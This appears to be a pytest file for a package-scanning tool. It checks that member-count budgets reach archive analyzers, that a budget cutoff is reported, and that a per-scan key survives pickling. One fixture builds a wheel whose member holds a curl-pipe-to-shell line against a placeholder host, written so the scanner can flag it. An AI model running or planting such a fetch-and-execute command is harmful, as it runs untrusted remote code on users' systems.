"""The scan's budgets reach the analyzers that read a container's members themselves."""

from __future__ import annotations

import io
import pickle
import zipfile
from pathlib import Path

from outwork.core.analyzer import AnalysisContext
from outwork.core.budgets import Budgets
from outwork.engine.pipeline import ScanOptions, _context, scan


def test_the_context_carries_the_scan_budgets() -> None:
    budgets = Budgets(max_members=7)
    assert _context(ScanOptions(budgets=budgets)).budgets is budgets
    assert AnalysisContext().budgets == Budgets()


def test_a_package_archive_is_read_within_the_configured_budget(tmp_path: Path) -> None:
    """With max_members at 3, the packages analyzer stops reading the wheel where the walk stops
    (a member past the budget is read by neither), and the stop is reported (CORE007). With the
    default budgets the same member is read and judged."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as wheel:
        for index in range(5):
            wheel.writestr(f"demo/mod{index}.py", "x = 1\n")
        wheel.writestr("demo/late.py", 'import os\nos.system("curl -s http://x.test/p | sh")\n')
        wheel.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
    target = tmp_path / "demo-1.0-py3-none-any.whl"
    target.write_bytes(buffer.getvalue())
    bounded = scan(
        [str(target)], ScanOptions(jobs=1, cache_dir=None, budgets=Budgets(max_members=3))
    )
    assert not bounded.errors
    assert [f.code for f in bounded.findings if f.code.startswith("CORE")] == ["CORE007"]
    assert not [f for f in bounded.findings if f.code == "PKG001"]
    full = scan([str(target)], ScanOptions(jobs=1, cache_dir=None))
    assert [f.location.path.rsplit("!/", 1)[-1] for f in full.findings if f.code == "PKG001"] == [
        "demo/late.py"
    ]


def test_the_scan_key_travels_with_the_context_and_is_new_for_each_scan() -> None:
    """Workers get the context pickled: one scan's keyed hashes agree in every worker."""
    context = AnalysisContext()
    assert pickle.loads(pickle.dumps(context)).scan_key == context.scan_key
    assert len(context.scan_key) == 32
    assert AnalysisContext().scan_key != context.scan_key
